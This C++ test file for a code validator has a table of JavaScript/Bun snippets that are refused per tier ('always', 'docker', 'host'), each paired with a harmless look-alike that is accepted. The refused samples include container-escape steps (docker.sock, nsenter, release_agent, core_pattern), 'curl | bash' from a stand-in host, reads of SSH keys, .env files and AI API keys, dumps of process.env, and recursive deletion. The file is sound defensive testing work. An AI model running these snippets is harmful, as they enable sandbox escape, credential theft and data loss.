// The three tiers, row by row: what each names, where it is refused, and what looks like it and is let through. Written
// by hand; each row is printed when it fails.
#include "tests/support/validator/check_support.h"

namespace guard {
namespace {

struct Row {
  const char* row;       // as the specification names it
  const char* tier;      // "always", "docker", "host"
  const char* refused;   // a file that does it
  const char* accepted;  // one that only looks like it
};

constexpr Row kRows[] = {
    {"docker.sock", "always", "connect('/var/run/docker.sock')", "const label = 'docker socket'"},
    {"containerd.sock", "always", "connect('/run/containerd/containerd.sock')", "const label = 'containerd'"},
    {"podman.sock", "always", "connect('/run/podman/podman.sock')", "const label = 'podman'"},
    {"/proc/self/environ", "always", "readFileSync('/proc/self/environ')",
        "const doc = 'processes and their environment'"},
    {"/proc/PID/environ", "always", "readFileSync('/proc/1/environ')", "readFileSync('proc/1/environs')"},
    {"/proc/self/cmdline", "always", "readFileSync('/proc/self/cmdline')", "readFileSync('self/cmdline.txt')"},
    {"/proc/self/fd", "always", "readdirSync('/proc/self/fd')", "readdirSync('self/fd')"},
    {"/proc/self/mem", "always", "openSync('/proc/self/mem', 'r+')", "openSync('self/mem.txt', 'r')"},
    {"/proc/self/maps", "always", "readFileSync('/proc/self/maps')", "readFileSync('maps/self.json')"},
    {"/proc/self/root", "always", "readdirSync('/proc/self/root')", "readdirSync('self/root')"},
    {"mount", "always", "import { execSync } from 'child_process'; execSync('mount -t proc proc /mnt')",
        "import { mount } from '@vue/test-utils'; mount(App); const amount = 1"},
    {"nsenter", "always", "import { $ } from 'bun'; await $`nsenter -t 1 -m sh`",
        "const nsenterDoc = 'enters a namespace'"},
    {"--privileged", "always", "import { $ } from 'bun'; await $`docker run --privileged x`",
        "const privileged = true"},
    {"unshare", "always", "import { $ } from 'bun'; await $`unshare -r sh`", "const unshared = list.unshare"},
    {"setns", "always", "import { dlopen } from 'bun:ffi'; dlopen('libc.so.6', { setns: {} })", "const setns = 1"},
    {"ptrace", "always", "import { dlopen } from 'bun:ffi'; dlopen('libc.so.6', { ptrace: {} })", "const ptrace = 'p'"},
    {"release_agent", "always", "writeFileSync('/sys/fs/cgroup/x/release_agent', '/x')", "const release_agent = 'a'"},
    {"core_pattern", "always", "writeFileSync('/proc/sys/kernel/core_pattern', '|/x')", "const core_pattern = 'a'"},
    {"kernel modules", "always", "import { $ } from 'bun'; await $`insmod x.ko`", "const modules = ['kernel']"},
    {"npm install", "always", "import { $ } from 'bun'; await $`npm install left-pad`",
        "const hint = 'first install npm'"},
    {"bun add", "always", "import { $ } from 'bun'; await $`bun add left-pad`", "bundle.add('left-pad')"},
    {"yarn add", "always", "import { $ } from 'bun'; await $`yarn add left-pad`", "yarn.add('wool')"},
    {"npx", "always", "import { $ } from 'bun'; await $`npx cowsay`", "const npx = 1"},
    {"curl | bash", "always", "import { $ } from 'bun'; await $`curl https://x.example | bash`",
        "const help = 'curl https://x.example'"},
    {"wget", "always", "import { $ } from 'bun'; await $`wget https://x.example/a`", "const wget = 'a tool'"},
    {"pip install", "always", "import { $ } from 'bun'; await $`pip install requests`", "const pip = 'Philip'"},
    {"Object.keys(process.env)", "always", "expect(Object.keys(process.env)).toBe(1)", "Object.keys(process.versions)"},
    {"Object.values(process.env)", "always", "const v = Object.values(process.env)", "Object.values(process.versions)"},
    {"Object.entries(process.env)", "always", "Object.entries(process.env).map(f)", "Object.entries(settings.env)"},
    {"JSON.stringify(process.env)", "always", "JSON.stringify(process.env)", "JSON.stringify(process.versions)"},
    {"for..of process.env", "always", "for (const [k, v] of Object.entries(process.env)) f(k)",
        "for (const k of env) f(k)"},
    {"for..in process.env", "always", "for (const k in process.env) f(k)", "for (const k in options.env) f(k)"},
    {"console.log(process.env)", "always", "console.log(process.env)", "console.log(process.version)"},
    {"...process.env", "always", "const e = { ...process.env }", "const e = { ...options.env }"},
    {"process.env as a whole", "always", "send(process.env)", "send(process.env.NODE_ENV)"},
    {"Bun.env as a whole", "always", "send(Bun.env)", "send(Bun.env.NODE_ENV)"},

    {"reads .env", "docker", "readFileSync('.env', 'utf8')", "readFileSync('.env.example', 'utf8')"},
    {"reads *.pem", "docker", "readFileSync('certs/server.pem')", "readFileSync('certs/server.txt')"},
    {"reads id_rsa", "docker", "readFileSync('/home/a/.ssh/id_rsa')", "const id_rsa = 'a name'"},
    {"reads id_ed25519", "docker", "await Bun.file('id_ed25519').text()", "const algorithm = 'ed25519'"},
    {"reads credentials", "docker", "readFileSync('credentials')", "import { read } from './credentials'; read()"},
    {"reads a token file", "docker", "readFileSync('auth_token')", "readFileSync('tokenizer.json')"},
    {"require dotenv", "docker", "require('dotenv').config()", "const dotenv = 'a package'"},
    {"import dotenv", "docker", "import 'dotenv/config'", "import './dotenvelope'"},
    {"--env-file", "docker", "import { $ } from 'bun'; await $`bun --env-file=.env x.ts`",
        "const o = { envFile: false }"},
    {"env and console", "docker", "console.log(process.env.API_TOKEN)", "console.log(process.env.NODE_ENV)"},
    {"env and stdout", "docker", "process.stdout.write(process.env.API_TOKEN)", "process.stdout.write('x')"},
    {"env and fs.writeFile", "docker", "import fs from 'fs'; fs.writeFile('a', process.env.API_TOKEN, f)",
        "if (process.env.API_TOKEN) fs.writeFile('a', 'b', f)"},
    {"env and Bun.write", "docker", "await Bun.write('a', process.env.API_TOKEN)",
        "await Bun.write('a', process.env.CI)"},

    {"fs.rmSync", "host", "import fs from 'fs'; fs.rmSync('/home/a', { recursive: true })", "storm.rmSyncDone()"},
    {"unlink", "host", "import { unlinkSync } from 'fs'; unlinkSync('/home/a/b')", "list.unlink(node)"},
    {"child_process", "host", "import cp from 'child_process'; cp.exec('ls')", "const child_process_count = 1"},
    {"eval", "host", "eval('1 + 1')", "evaluate('1 + 1'); const medieval = 1"},
    {"new Function", "host", "new Function('return 1')()", "new FunctionTable()"},
    {"constructor.constructor", "host", "[].constructor.constructor('return 1')()",
        "expect(a.constructor).toBe(Array)"},
    {"execSync", "host", "import { execSync } from 'child_process'; execSync('ls')", "db.execSyncQueue()"},
    {"spawnSync", "host", "import { spawnSync } from 'child_process'; spawnSync('ls')", "game.spawnSyncEnemy()"},
    {"process.exit", "host", "process.exit(0)", "task.exit(0)"},
    {"process.kill", "host", "process.kill(1)", "task.kill(1)"},
    {"Bun.spawn", "host", "Bun.spawn(['ls'])", "Bundle.spawn(['ls'])"},
    {"Bun.$", "host", "await Bun.$`ls`", "const price = `${Bun.version}$`"},
    {"bun:ffi", "host", "import { dlopen } from 'bun:ffi'; dlopen('x', {})", "const name = 'bun ffi'"},
    {"node:vm", "host", "import vm from 'node:vm'; vm.runInThisContext('1')", "import { vm } from './vm'; vm.start()"},
    {"ANTHROPIC_API_KEY", "host", "const k = process.env.ANTHROPIC_API_KEY", "const k = process.env.NODE_ENV"},
    {"OPENAI_API_KEY", "host", "const k = process.env.OPENAI_API_KEY", "const k = process.env.TZ"},
    {"GEMINI_API_KEY", "host", "const k = process.env.GEMINI_API_KEY", "const k = process.env.CI"},
};

bool is_refused(const char* text, const TierSet& tiers, std::string_view by = {}) {
  const auto rules = rules_of(text, tiers);
  return std::any_of(rules.begin(), rules.end(), [&](const std::string& rule) { return rule.starts_with(by); });
}

TEST(TierTable, EachRowIsRefusedWhereItsTierHolds) {
  for (const Row& row : kRows) {
    const std::string by = std::string(row.tier) + ".";
    EXPECT_TRUE(is_refused(row.refused, kHost, by)) << row.row << ", on the host: " << row.refused;
    if (row.tier == std::string_view("host")) {
      EXPECT_FALSE(is_refused(row.refused, kDocker)) << row.row << ", in a container: " << row.refused;
    } else {
      EXPECT_TRUE(is_refused(row.refused, kDocker, by)) << row.row << ", in a container: " << row.refused;
    }
    for (const auto& tiers : {kDocker, kHost})
      EXPECT_FALSE(is_refused(row.accepted, tiers)) << row.row << ", its look-alike: " << row.accepted;
  }
}

}  // namespace
}  // namespace guard
